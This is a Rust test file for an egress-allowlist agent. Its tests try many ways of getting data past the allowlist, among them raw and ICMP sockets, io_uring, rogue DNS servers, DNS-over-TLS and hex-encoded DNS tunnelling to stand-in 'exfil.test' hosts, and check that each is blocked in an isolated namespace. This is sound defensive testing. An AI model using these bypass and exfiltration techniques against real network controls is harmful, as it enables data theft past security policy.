//! The bypass suite (issue #5): one test per way a hijacked command could try to get data
//! past the allowlist. Each test asserts both that the command saw a failure and that the
//! target (a listener, an upstream DNS server, the ICMP counters of the namespace) received
//! nothing from it. docs/THREATS.md lists the techniques, what stops each and the test name.
//!
//! Every test first shows, where it can, that the technique works *without* egress (a
//! control from the same namespace outside the enforced cgroup reaches the target), so a
//! broken probe cannot pass for a defence. The command always runs under the real
//! `egress-agent run` (confined as a user would run it), inside a network namespace of our
//! own that holds only `lo` with documentation addresses on it: nothing can leave the machine.
//!
//! Build the agent first; run as root, one thread:
//! `cargo build -p egress-agent && cargo test -p egress-tests --test bypass -- --test-threads=1`.

use std::{
    fs,
    net::{SocketAddr, TcpStream, UdpSocket},
    process::{Command, Stdio},
    time::Duration,
};

use egress_tests::{
    AgentRun, Outcome, Probe, TcpListener, TestNetns, UdpListener, probe_bin,
    world::{AgentExit, DnsWorld, UPSTREAM},
};
use serde_json::Value;

/// How long a target may take to record what reached it.
const WAIT: Duration = Duration::from_secs(2);
/// How long to keep watching a target that must receive nothing more.
const QUIET: Duration = Duration::from_millis(500);

/// The "remote" host of the probe tests, put on the namespace's `lo`.
const TARGET_V4: &str = "198.51.100.20";
const TARGET_V6: &str = "2001:db8::20";

/// The allowlist of the probe tests: one rule that none of them aims at.
const ALLOWLIST: &str =
    "version: 1\nname: bypass\nallow:\n  - ip: 127.0.0.2\n    ports: [8080]\n    protocol: tcp\n";

// ----------------------------------------------------------------------------------------
// The probe tests: a namespace with the target's addresses, a listener, `egress-probe`.
// ----------------------------------------------------------------------------------------

/// A test namespace with the target addresses on `lo`.
struct Lab {
    netns: TestNetns,
}

impl Lab {
    fn new() -> Self {
        let netns = TestNetns::new();
        ip(&[
            "-n",
            netns.name(),
            "addr",
            "add",
            &format!("{TARGET_V4}/32"),
            "dev",
            "lo",
        ]);
        ip(&[
            "-n",
            netns.name(),
            "addr",
            "add",
            &format!("{TARGET_V6}/128"),
            "dev",
            "lo",
            "nodad",
        ]);
        Self { netns }
    }

    /// `egress-probe ACTION DST` in the namespace, outside any enforced cgroup.
    fn control(&self, action: &str, dst: &str) -> Outcome {
        Probe::new(&self.netns).run(&[action, dst])
    }

    /// `egress-agent run [--keep-cap CAP]... -- egress-probe ACTION DST`; checks that the
    /// agent got ready and exited with the probe's status 0, and returns the probe's outcome.
    fn enforced(&self, action: &str, dst: &str, keep_caps: &[&str]) -> (AgentRun, Outcome) {
        let args: Vec<&str> = keep_caps.iter().flat_map(|c| ["--keep-cap", c]).collect();
        self.enforced_with(action, dst, &args)
    }

    /// [`Lab::enforced`] with `args` given to `run` before the `--`.
    fn enforced_with(&self, action: &str, dst: &str, args: &[&str]) -> (AgentRun, Outcome) {
        let probe = probe_bin();
        let probe = probe.to_str().expect("utf-8 path");
        let mut b = AgentRun::builder(&self.netns, ALLOWLIST, &[probe, action, dst]);
        for a in args {
            b = b.arg(a);
        }
        let mut run = b.start();
        let code = run.exit_code();
        assert_eq!(code, 0, "the probe exits 0 either way\n{}", run.output());
        assert_eq!(
            run.events().first().map(|e| e["event"].clone()),
            Some(Value::from("ready")),
            "the first event line is ready\n{}",
            run.output()
        );
        let out = run.probe_outcome();
        (run, out)
    }
}

/// Runs `ip ARGS`; panics with its stderr if it fails.
fn ip(args: &[&str]) {
    let out = Command::new("ip")
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("cannot run ip: {e}"));
    assert!(
        out.status.success(),
        "ip {} failed: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr).trim()
    );
}

/// What the technique aims at, and how to count what reached it.
enum Target {
    Tcp(TcpListener),
    Udp(UdpListener),
}

impl Target {
    fn tcp(lab: &Lab, addr: &str) -> Self {
        Self::Tcp(TcpListener::bind(&lab.netns, addr))
    }

    fn udp(lab: &Lab, addr: &str) -> Self {
        Self::Udp(UdpListener::bind(&lab.netns, addr))
    }

    fn received(&self) -> usize {
        match self {
            Self::Tcp(l) => l.received(),
            Self::Udp(l) => l.received(),
        }
    }

    fn wait_received(&self, n: usize, timeout: Duration) -> bool {
        match self {
            Self::Tcp(l) => l.wait_received(n, timeout),
            Self::Udp(l) => l.wait_received(n, timeout),
        }
    }
}

/// The control: `action` reaches `target` at `dst` without egress (`n` payloads arrive).
fn control_reaches(lab: &Lab, target: &Target, action: &str, dst: &str, n: usize) {
    let out = lab.control(action, dst);
    assert!(
        out.ok,
        "control: {action} {dst} outside the enforced cgroup should work, got {out:?}"
    );
    assert!(
        target.wait_received(n, WAIT),
        "control: {action} {dst} reported success but the target received {} of {n}",
        target.received()
    );
}

/// The target still holds only the control's `n` payloads, a little while later.
fn assert_nothing_more(target: &Target, n: usize, what: &str, run: &AgentRun) {
    assert!(
        !target.wait_received(n + 1, QUIET),
        "{what}: the target received data from the enforced command\n{}",
        run.output()
    );
    assert_eq!(target.received(), n, "{what}: the target's count changed");
}

/// The outcome is a failure with `EPERM`.
fn assert_eperm(out: &Outcome, what: &str, run: &AgentRun) {
    assert!(
        out.is_eperm(),
        "{what}: expected EPERM, got {out:?}\n{}",
        run.output()
    );
}

/// The one deny event from `hook`; checks its pid when given.
fn one_deny(run: &AgentRun, hook: &str, pid: Option<u32>) -> Value {
    let found: Vec<Value> = run
        .events_of("deny")
        .into_iter()
        .filter(|e| e["hook"] == hook)
        .collect();
    assert_eq!(
        found.len(),
        1,
        "one deny event from {hook}, got {found:?}\n{}",
        run.output()
    );
    let ev = found.into_iter().next().expect("one event");
    if pid.is_some() {
        // The command runs in its own pid namespace: the probe reports its pid there, the
        // event names the host's pid of the same process, which the probe cannot know.
        assert!(
            ev["pid"].as_u64().is_some_and(|p| p > 2),
            "the deny names a host pid: {ev}"
        );
        assert_eq!(
            ev["comm"], "egress-probe",
            "the deny names the process: {ev}"
        );
    }
    ev
}

/// A connect/send technique: the control reaches the target, the enforced probe gets
/// `EPERM` and one deny event from `hook` naming `dst`, and the target receives nothing.
fn check_denied(action: &str, listen: &str, dst: &str, hook: &str) -> (AgentRun, Outcome) {
    check_denied_with(action, listen, dst, hook, &[])
}

/// [`check_denied`] with `args` given to `run`.
fn check_denied_with(
    action: &str,
    listen: &str,
    dst: &str,
    hook: &str,
    args: &[&str],
) -> (AgentRun, Outcome) {
    let lab = Lab::new();
    let target = if action.starts_with("udp") {
        Target::udp(&lab, listen)
    } else {
        Target::tcp(&lab, listen)
    };
    // sendmmsg sends two datagrams.
    let per_try = if action == "udp-sendmmsg" { 2 } else { 1 };
    control_reaches(&lab, &target, action, dst, per_try);
    let (run, out) = lab.enforced_with(action, dst, args);
    let what = format!("{action} {dst}");
    assert_eperm(&out, &what, &run);
    assert_nothing_more(&target, per_try, &what, &run);
    let sa: SocketAddr = dst.parse().expect("destination");
    let ev = one_deny(&run, hook, None);
    let shown = match sa.ip() {
        std::net::IpAddr::V6(v6) => v6
            .to_ipv4_mapped()
            .map_or(v6.to_string(), |v4| v4.to_string()),
        v4 => v4.to_string(),
    };
    assert_eq!(ev["dst"], shown, "{what}: {ev}");
    assert_eq!(ev["port"], sa.port(), "{what}: {ev}");
    assert_eq!(ev["reason"], "no-rule", "{what}: {ev}");
    (run, out)
}

#[test]
fn ip_literal_v4() {
    let (run, out) = check_denied(
        "tcp-connect",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "connect4",
    );
    one_deny(&run, "connect4", Some(out.pid));
}

#[test]
fn ip_literal_v6() {
    check_denied(
        "tcp-connect",
        "[2001:db8::20]:443",
        "[2001:db8::20]:443",
        "connect6",
    );
}

#[test]
fn ip_literal_ipv4_mapped_v6() {
    // An AF_INET6 socket to ::ffff:a.b.c.d reaches connect6 with the mapped address.
    check_denied(
        "tcp-connect",
        "198.51.100.20:443",
        "[::ffff:198.51.100.20]:443",
        "connect6",
    );
}

#[test]
fn udp_sendto() {
    check_denied(
        "udp-sendto",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "sendmsg4",
    );
}

#[test]
fn udp_sendto_v6() {
    check_denied(
        "udp-sendto",
        "[2001:db8::20]:443",
        "[2001:db8::20]:443",
        "sendmsg6",
    );
}

#[test]
fn udp_connected() {
    check_denied(
        "udp-connect",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "connect4",
    );
}

/// An IPv4 address given with family `AF_UNSPEC`: `udp_sendmsg` sends to it as to an
/// `AF_INET` one, and `sendmsg4` sees family 0 with the address in place.
#[test]
fn udp_sendto_af_unspec() {
    check_denied(
        "udp-unspec",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "sendmsg4",
    );
}

/// The same on a socket connected to an allowed peer (DNS, steered to the resolver): the
/// datagram goes to the address given, not to the peer, so the peer's verdict must not be
/// taken for it (sendmsg4 once read family 0 as a connected send), and the backstop must not
/// pass it as the connected socket's.
#[test]
fn udp_connected_socket_sendto_af_unspec() {
    check_denied(
        "udp-connected-unspec",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "sendmsg4",
    );
}

#[test]
fn udp_sendmmsg() {
    // The first datagram is denied, so sendmmsg fails as a whole (no second try, one event).
    check_denied(
        "udp-sendmmsg",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "sendmsg4",
    );
}

#[test]
fn tcp_fast_open() {
    // sendto(MSG_FASTOPEN) connects inside sendmsg, through the same pre_connect hook.
    check_denied(
        "tcp-fastopen",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "connect4",
    );
}

#[test]
fn io_uring_connect() {
    let disabled = fs::read_to_string("/proc/sys/kernel/io_uring_disabled")
        .map(|s| s.trim().to_owned())
        .unwrap_or_else(|_| "0".to_owned());
    if disabled == "0" {
        // IORING_OP_CONNECT reaches the socket's connect, so connect4 judges it too. Where
        // the family guard cannot load, `run` refuses io_uring unless --allow-io-uring
        // (tests/tests/sidedoors.rs): allowed here, to show the connect is judged anyway.
        let (_run, out) = check_denied_with(
            "iouring-connect",
            "198.51.100.20:443",
            "198.51.100.20:443",
            "connect4",
            &["--allow-io-uring"],
        );
        let error = out.error.unwrap_or_default();
        assert!(
            error.starts_with("IORING_OP_CONNECT:"),
            "the connect itself failed inside io_uring: {error}"
        );
        return;
    }
    // io_uring is disabled on this kernel (2: for everyone; 1: without CAP_SYS_ADMIN, which
    // the confined command lacks): the technique fails at io_uring_setup. Say so loudly.
    eprintln!(
        "NOTE: kernel.io_uring_disabled = {disabled}: io_uring_setup itself fails; the \
         IORING_OP_CONNECT path is not exercised on this machine"
    );
    let lab = Lab::new();
    let target = Target::tcp(&lab, "198.51.100.20:443");
    let (run, out) = lab.enforced("iouring-connect", "198.51.100.20:443", &[]);
    assert!(
        !out.ok,
        "io_uring is disabled, yet the probe connected\n{}",
        run.output()
    );
    let error = out.error.clone().unwrap_or_default();
    assert!(
        error.starts_with("io_uring_setup:"),
        "with io_uring disabled the probe fails at io_uring_setup: {out:?}"
    );
    assert_nothing_more(&target, 0, "iouring-connect", &run);
}

#[test]
fn forked_child() {
    let (run, out) = check_denied(
        "fork-connect",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "connect4",
    );
    // The child inherits the cgroup: the deny names the child, not the probe.
    let ev = one_deny(&run, "connect4", None);
    assert_ne!(
        ev["pid"], out.pid,
        "the connect came from the forked child: {ev}"
    );
    let error = out.error.unwrap_or_default();
    assert!(
        error.starts_with("forked child "),
        "the failure is the child's: {error}"
    );
}

#[test]
fn reexec() {
    // The probe execs /bin/sh, which execs the probe again (same pid) to connect.
    let (run, out) = check_denied(
        "reexec-connect",
        "198.51.100.20:443",
        "198.51.100.20:443",
        "connect4",
    );
    let ev = one_deny(&run, "connect4", Some(out.pid));
    assert_eq!(ev["comm"], "egress-probe", "{ev}");
}

#[test]
fn loopback_proxy() {
    // A proxy on the namespace's loopback, outside the cgroup: loopback is a destination
    // like any other.
    let (run, out) = check_denied(
        "tcp-connect",
        "127.0.0.1:3128",
        "127.0.0.1:3128",
        "connect4",
    );
    one_deny(&run, "connect4", Some(out.pid));
}

#[test]
fn loopback_proxy_v6() {
    check_denied("tcp-connect", "[::1]:3128", "[::1]:3128", "connect6");
}

// ----------------------------------------------------------------------------------------
// Below the socket hooks: raw IP, ICMP, packet sockets.
// ----------------------------------------------------------------------------------------

/// The warning `run` writes for `--keep-cap CAP_NET_RAW`.
fn assert_net_raw_warning(run: &AgentRun) {
    let warned = run.events_of("warning").iter().any(|e| {
        e["message"]
            .as_str()
            .is_some_and(|m| m.contains("CAP_NET_RAW"))
    });
    assert!(
        warned,
        "--keep-cap CAP_NET_RAW gives a warning event\n{}",
        run.output()
    );
}

/// A raw-socket technique aimed at a UDP listener: the control delivers, the enforced
/// probe fails with EPERM, the listener gets nothing. Returns the run for more checks.
fn check_raw_udp(action: &str, keep_caps: &[&str]) -> (AgentRun, Outcome) {
    let lab = Lab::new();
    let target = Target::udp(&lab, "198.51.100.20:5000");
    control_reaches(&lab, &target, action, "198.51.100.20:5000", 1);
    let (run, out) = lab.enforced(action, "198.51.100.20:5000", keep_caps);
    assert_eperm(&out, action, &run);
    assert_nothing_more(&target, 1, action, &run);
    (run, out)
}

/// As [`check_raw_udp`], without the control run (already shown by the other tests of the
/// technique).
fn check_raw_udp_no_control(action: &str, keep_caps: &[&str]) -> (AgentRun, Outcome) {
    let lab = Lab::new();
    let target = Target::udp(&lab, "198.51.100.20:5000");
    let (run, out) = lab.enforced(action, "198.51.100.20:5000", keep_caps);
    assert_eperm(&out, action, &run);
    assert_nothing_more(&target, 0, action, &run);
    (run, out)
}

#[test]
fn raw_ip_without_cap_net_raw() {
    // Confinement: no CAP_NET_RAW, so socket(SOCK_RAW) fails before any program runs.
    let (run, out) = check_raw_udp("raw-ip", &[]);
    assert!(
        out.error.unwrap_or_default().starts_with("socket:"),
        "the socket was refused\n{}",
        run.output()
    );
}

#[test]
fn raw_ip_with_cap_net_raw() {
    // With CAP_NET_RAW kept, the sock_create program alone refuses the raw socket.
    let (run, out) = check_raw_udp("raw-ip", &["CAP_NET_RAW"]);
    assert_net_raw_warning(&run);
    let ev = one_deny(&run, "sock_create", Some(out.pid));
    assert_eq!(ev["reason"], "protocol", "{ev}");
}

/// An ICMP echo technique: the control gets its reply (the namespace counts one echo
/// request per family), the enforced probe fails with EPERM and the counters do not move.
fn check_icmp(action: &str, keep_caps: &[&str]) -> Vec<(AgentRun, Outcome)> {
    let lab = Lab::new();
    lab.netns.enable_ping_sockets();
    let mut runs = Vec::new();
    for dst in [format!("{TARGET_V4}:0"), format!("[{TARGET_V6}]:0")] {
        let before = lab.netns.in_echos();
        let out = lab.control(action, &dst);
        assert!(
            out.ok,
            "control: {action} {dst} should get a reply, got {out:?}"
        );
        let after_control = lab.netns.in_echos();
        assert!(
            after_control.0 + after_control.1 > before.0 + before.1,
            "control: the namespace counted no echo request ({before:?} -> {after_control:?})"
        );
        let (run, out) = lab.enforced(action, &dst, keep_caps);
        let what = format!("{action} {dst}");
        assert_eperm(&out, &what, &run);
        std::thread::sleep(QUIET);
        assert_eq!(
            lab.netns.in_echos(),
            after_control,
            "{what}: an echo request reached the namespace's stack\n{}",
            run.output()
        );
        runs.push((run, out));
    }
    runs
}

#[test]
fn icmp_echo_dgram() {
    // A ping socket needs no capability: the sock_create program refuses it.
    for (run, out) in check_icmp("icmp-dgram", &[]) {
        let ev = one_deny(&run, "sock_create", Some(out.pid));
        assert_eq!(ev["reason"], "protocol", "{ev}");
    }
}

#[test]
fn icmp_echo_raw_without_cap_net_raw() {
    for (run, out) in check_icmp("icmp-raw", &[]) {
        assert!(
            out.error.clone().unwrap_or_default().starts_with("socket:"),
            "the socket was refused\n{}",
            run.output()
        );
    }
}

#[test]
fn icmp_echo_raw_with_cap_net_raw() {
    for (run, out) in check_icmp("icmp-raw", &["CAP_NET_RAW"]) {
        assert_net_raw_warning(&run);
        let ev = one_deny(&run, "sock_create", Some(out.pid));
        assert_eq!(ev["reason"], "protocol", "{ev}");
    }
}

#[test]
fn af_packet_without_cap_net_raw() {
    // sock_create never sees AF_PACKET; confinement (no CAP_NET_RAW) is the defence.
    let (run, out) = check_raw_udp("packet", &[]);
    assert!(
        out.error.unwrap_or_default().starts_with("socket:"),
        "the socket was refused\n{}",
        run.output()
    );
}

#[test]
fn af_packet_with_cap_net_raw() {
    // With CAP_NET_RAW kept, the family guard (a BPF LSM cgroup program, which reports the
    // attempt) refuses the packet socket; where the kernel cannot load it (the locked-down
    // kernel of this machine kind), the command's seccomp filter does, and `run` says so.
    let (run, out) = check_raw_udp_no_control("packet", &["CAP_NET_RAW"]);
    assert_net_raw_warning(&run);
    assert!(out.failed_at("socket"), "refused when opened: {out:?}");
    if family_guard_missing(&run) {
        assert!(
            run.events_of("deny").is_empty(),
            "seccomp reports nothing\n{}",
            run.output()
        );
    } else {
        let ev = one_deny(&run, "socket_create", None);
        assert_eq!(ev["proto"], "af_packet", "{ev}");
        assert_eq!(ev["reason"], "family", "{ev}");
    }
}

#[test]
fn vsock_to_the_host() {
    // AF_VSOCK needs no capability and reaches the hypervisor's host: refused when opened
    // (the probe never connects anything).
    let lab = Lab::new();
    let (run, out) = lab.enforced("vsock-socket", "198.51.100.20:5000", &[]);
    assert_eperm(&out, "vsock", &run);
    if !family_guard_missing(&run) {
        let ev = one_deny(&run, "socket_create", None);
        assert_eq!(ev["proto"], "af_vsock", "{ev}");
    }
}

/// Whether `run` said the family guard cannot run (its seccomp filter stands in).
fn family_guard_missing(run: &AgentRun) -> bool {
    let warning = run.events_of("warning").into_iter().find(|e| {
        e["message"]
            .as_str()
            .is_some_and(|m| m.contains("family guard (BPF LSM) cannot run here"))
    });
    if let Some(w) = &warning {
        assert!(
            w["message"]
                .as_str()
                .is_some_and(|m| m.contains("seccomp") && m.contains("AF_PACKET")),
            "the warning says what stands in: {w}"
        );
    }
    warning.is_some()
}

// ----------------------------------------------------------------------------------------
// DNS: the real agent in a DnsWorld (dnsmasq as the upstream, 192.0.2.53), python3
// command scripts that report one JSON line.
// ----------------------------------------------------------------------------------------

/// Helpers every command script starts with; a script adds results to `out`.
const PRELUDE: &str = r#"
import errno, json, os, socket, subprocess

def fail(e):
    return {"ok": False, "errno": e.errno, "error": errno.errorcode.get(e.errno, str(e))}

def resolve(name):
    try:
        infos = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
    except socket.gaierror as e:
        return {"ok": False, "gai": e.errno, "error": str(e)}
    return {"ok": True, "addrs": sorted({i[4][0] for i in infos})}

def tcp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(b"ping\n")
        return {"ok": True}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def udp_sendto(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"udp\n", (host, port))
        return {"ok": True}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def udp_connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect((host, port))
        s.send(b"udp\n")
        return {"ok": True}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def dig(*args):
    p = subprocess.run(["dig", "+time=3", "+tries=1", *args], stdout=subprocess.PIPE,
                       stderr=subprocess.STDOUT, text=True)
    status = None
    for line in p.stdout.splitlines():
        if "status: " in line:
            status = line.split("status: ", 1)[1].split(",", 1)[0].strip()
    return {"rc": p.returncode, "status": status, "out": p.stdout}

out = {"pid": os.getpid()}
"#;

/// An allowlist forwarding to the world's dnsmasq with `rules` under `allow:`.
fn dns_policy(rules: &str) -> String {
    format!(
        "version: 1\nname: bypass-dns\ndns:\n  upstream: [\"{UPSTREAM}\"]\n  min_ttl: 0s\n  \
         grace: 0s\nallow:\n{rules}"
    )
}

/// `allowed.example.com` on TCP 8080 only.
const ALLOWED_TCP_8080: &str =
    "  - host: allowed.example.com\n    ports: [8080]\n    protocol: tcp\n    name_check: false\n";

/// Runs `body` (after [`PRELUDE`]) under `allowlist`; checks ready and exit status 0.
fn run_script(world: &DnsWorld, allowlist: &str, body: &str) -> (AgentExit, Value) {
    world.run_script(&[], allowlist, PRELUDE, body)
}

/// `out[key]` is a socket call that failed with EPERM.
fn assert_script_eperm(run: &AgentExit, out: &Value, key: &str) {
    assert_eq!(
        out[key]["error"],
        "EPERM",
        "{key}: expected EPERM, got {}\n{}",
        out[key],
        run.context()
    );
}

/// `out[key]` is a dig whose answer had `status`.
fn assert_dig_status(run: &AgentExit, out: &Value, key: &str, status: &str) {
    assert_eq!(
        out[key]["status"],
        status,
        "{key}: dig status\n{}\n{}",
        out[key]["out"].as_str().unwrap_or_default(),
        run.context()
    );
}

/// At least one `dns-refused` event for `name`.
fn assert_refused_event(run: &AgentExit, name: &str) {
    assert!(
        run.events_of("dns-refused")
            .iter()
            .any(|e| e["query"] == name),
        "no dns-refused event for {name}\n{}",
        run.context()
    );
}

/// The deny events for `dst`:`port`.
fn denies_for<'a>(run: &'a AgentExit, dst: &str, port: u16) -> Vec<&'a Value> {
    run.events_of("deny")
        .into_iter()
        .filter(|e| e["dst"] == dst && e["port"] == port)
        .collect()
}

/// dnsmasq never saw `name` after the world's control queries (`before` of them); waits
/// for `sync` (a name the script asked for last) first, since dnsmasq logs as it goes.
fn assert_upstream_never_saw(world: &DnsWorld, name: &str, before: usize, sync: &str) {
    assert!(
        world.wait_query(sync, WAIT),
        "the permitted name {sync} (asked last) reached dnsmasq\n{}",
        world.log()
    );
    let seen = world.queries().iter().filter(|q| *q == name).count();
    assert_eq!(
        seen,
        before,
        "{name} reached the upstream from the enforced command\n{}",
        world.log()
    );
}

/// A rogue DNS server on 203.0.113.53 (UDP or TCP 53, or TCP 853) that records what
/// reaches it: the control (from outside the cgroup) shows it is reachable.
fn rogue_udp(world: &DnsWorld) -> UdpListener {
    let rogue = world.listen_udp("203.0.113.53:53");
    world.netns().run_in(|| {
        let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
        s.send_to(b"control", rogue.addr()).expect("control send");
    });
    assert!(
        rogue.wait_received(1, WAIT),
        "control: the rogue server got nothing"
    );
    rogue
}

#[test]
fn other_dns_server_over_udp() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .txt_record("secret.exfil.test", "answer")
        .start();
    let rogue = rogue_udp(&world);
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        r#"
out["refused"] = dig("@203.0.113.53", "+notcp", "TXT", "secret.exfil.test")
out["allowed"] = dig("@203.0.113.53", "+notcp", "A", "allowed.example.com")
"#,
    );
    // The query was steered to the agent: refused there, answered for the permitted name.
    assert_dig_status(&run, &out, "refused", "REFUSED");
    assert_dig_status(&run, &out, "allowed", "NOERROR");
    assert_refused_event(&run, "secret.exfil.test");
    std::thread::sleep(QUIET);
    assert_eq!(
        rogue.received(),
        1,
        "the rogue server received a query\n{}",
        run.context()
    );
    assert_upstream_never_saw(&world, "secret.exfil.test", 0, "allowed.example.com");
}

#[test]
fn other_dns_server_over_tcp() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .txt_record("secret.exfil.test", "answer")
        .start();
    let rogue = world.listen_tcp("203.0.113.53:53");
    let reachable = world
        .netns()
        .run_in(|| TcpStream::connect_timeout(&rogue.addr(), WAIT).is_ok());
    assert!(
        reachable && rogue.wait_accepted(1, WAIT),
        "control: the rogue server is reachable"
    );
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        r#"
out["refused"] = dig("@203.0.113.53", "+tcp", "TXT", "secret.exfil.test")
out["allowed"] = dig("@203.0.113.53", "+tcp", "A", "allowed.example.com")
"#,
    );
    assert_dig_status(&run, &out, "refused", "REFUSED");
    assert_dig_status(&run, &out, "allowed", "NOERROR");
    assert_refused_event(&run, "secret.exfil.test");
    std::thread::sleep(QUIET);
    assert_eq!(
        rogue.accepted(),
        1,
        "the rogue server got a connection\n{}",
        run.context()
    );
    assert_upstream_never_saw(&world, "secret.exfil.test", 0, "allowed.example.com");
}

#[test]
fn dns_over_tls() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .start();
    let dot = world.listen_tcp("203.0.113.53:853");
    let reachable = world
        .netns()
        .run_in(|| TcpStream::connect_timeout(&dot.addr(), WAIT).is_ok());
    assert!(
        reachable && dot.wait_accepted(1, WAIT),
        "control: the DoT server is reachable"
    );
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        r#"
out["dot"] = tcp("203.0.113.53", 853)
"#,
    );
    assert_script_eperm(&run, &out, "dot");
    std::thread::sleep(QUIET);
    assert_eq!(
        dot.accepted(),
        1,
        "the DoT server got a connection\n{}",
        run.context()
    );
    let d = denies_for(&run, "203.0.113.53", 853);
    assert_eq!(d.len(), 1, "one deny for DoT\n{}", run.context());
    assert_eq!(d[0]["reason"], "no-rule", "{}", d[0]);
}

#[test]
fn dns_tunnelling_through_a_non_allowlisted_name() {
    // Data hex-encoded into labels below a name the attacker's server answers.
    let udp_name = "7365637265742d31.exfil.test";
    let tcp_name = "7365637265742d32.exfil.test";
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .txt_record(udp_name, "ack")
        .txt_record(tcp_name, "ack")
        .start();
    // Control: the upstream answers these names for anyone outside the cgroup.
    let control = world.dig(&["@192.0.2.53", "+time=2", "+tries=1", "TXT", udp_name]);
    assert!(
        control.contains("\"ack\""),
        "control: dnsmasq answers {udp_name}:\n{control}"
    );
    let before = world.queries().iter().filter(|q| *q == udp_name).count();
    assert_eq!(
        before,
        1,
        "the control query is in the log\n{}",
        world.log()
    );
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        &format!(
            r#"
out["udp"] = dig("+notcp", "TXT", "{udp_name}")
out["tcp"] = dig("+tcp", "TXT", "{tcp_name}")
out["sync"] = dig("A", "allowed.example.com")
"#
        ),
    );
    assert_dig_status(&run, &out, "udp", "REFUSED");
    assert_dig_status(&run, &out, "tcp", "REFUSED");
    assert_refused_event(&run, udp_name);
    assert_refused_event(&run, tcp_name);
    assert_upstream_never_saw(&world, udp_name, 1, "allowed.example.com");
    assert_upstream_never_saw(&world, tcp_name, 0, "allowed.example.com");
}

#[test]
fn allowed_name_on_another_port() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .start();
    let ok = world.listen_tcp("198.51.100.10:8080");
    let other = world.listen_tcp("198.51.100.10:8081");
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        r#"
out["r"] = resolve("allowed.example.com")
out["allowed"] = tcp("allowed.example.com", 8080)
out["other_port"] = tcp("allowed.example.com", 8081)
"#,
    );
    assert_eq!(
        out["allowed"]["ok"],
        true,
        "control in the cgroup\n{}",
        run.context()
    );
    assert!(
        ok.wait_accepted(1, WAIT),
        "the allowed port got its connection"
    );
    assert_script_eperm(&run, &out, "other_port");
    std::thread::sleep(QUIET);
    assert_eq!(
        other.accepted(),
        0,
        "TCP 8081 got a connection\n{}",
        run.context()
    );
    let d = denies_for(&run, "198.51.100.10", 8081);
    assert_eq!(d.len(), 1, "one deny for 8081\n{}", run.context());
    assert_eq!(d[0]["reason"], "port", "{}", d[0]);
    assert_eq!(d[0]["host"], "allowed.example.com", "{}", d[0]);
}

#[test]
fn allowed_name_on_another_protocol() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .start();
    let ok = world.listen_tcp("198.51.100.10:8080");
    let udp = world.listen_udp("198.51.100.10:8080");
    let (run, out) = run_script(
        &world,
        &dns_policy(ALLOWED_TCP_8080),
        r#"
out["r"] = resolve("allowed.example.com")
out["allowed"] = tcp("allowed.example.com", 8080)
out["udp_sendto"] = udp_sendto("198.51.100.10", 8080)
out["udp_connect"] = udp_connect("198.51.100.10", 8080)
"#,
    );
    assert_eq!(
        out["allowed"]["ok"],
        true,
        "control in the cgroup\n{}",
        run.context()
    );
    assert!(
        ok.wait_accepted(1, WAIT),
        "the allowed port got its connection"
    );
    assert_script_eperm(&run, &out, "udp_sendto");
    assert_script_eperm(&run, &out, "udp_connect");
    std::thread::sleep(QUIET);
    assert_eq!(
        udp.received(),
        0,
        "UDP 8080 got a datagram\n{}",
        run.context()
    );
    let d: Vec<_> = denies_for(&run, "198.51.100.10", 8080)
        .into_iter()
        .filter(|e| e["proto"] == "udp")
        .collect();
    assert_eq!(d.len(), 2, "two UDP denies\n{}", run.context());
    for e in d {
        assert_eq!(e["reason"], "port", "{e}");
    }
}

#[test]
fn wildcard_look_alike() {
    let look_alikes = [
        "evilexample.com",
        "example.com.evil.test",
        "api.example.com.evil.test",
        "example.com",
    ];
    let mut b = DnsWorld::builder().address("api.example.com", "198.51.100.10");
    for name in look_alikes {
        b = b.host_record(name, &["203.0.113.66"], None);
    }
    let world = b.start();
    let ok = world.listen_tcp("198.51.100.10:443");
    let evil = world.listen_tcp("203.0.113.66:443");
    // Control: the look-alikes resolve and their host is reachable outside the cgroup.
    let control = world.dig(&[
        "@192.0.2.53",
        "+short",
        "+time=2",
        "+tries=1",
        "evilexample.com",
    ]);
    assert_eq!(
        control.trim(),
        "203.0.113.66",
        "control: dnsmasq answers the look-alike"
    );
    let reachable = world
        .netns()
        .run_in(|| TcpStream::connect_timeout(&evil.addr(), WAIT).is_ok());
    assert!(
        reachable && evil.wait_accepted(1, WAIT),
        "control: the look-alike's host"
    );
    let names = look_alikes
        .iter()
        .map(|n| format!("{n:?}"))
        .collect::<Vec<_>>()
        .join(", ");
    let (run, out) = run_script(
        &world,
        &dns_policy(
            "  - host: \"*.example.com\"\n    ports: [443]\n    protocol: tcp\n    name_check: false\n",
        ),
        &format!(
            r#"
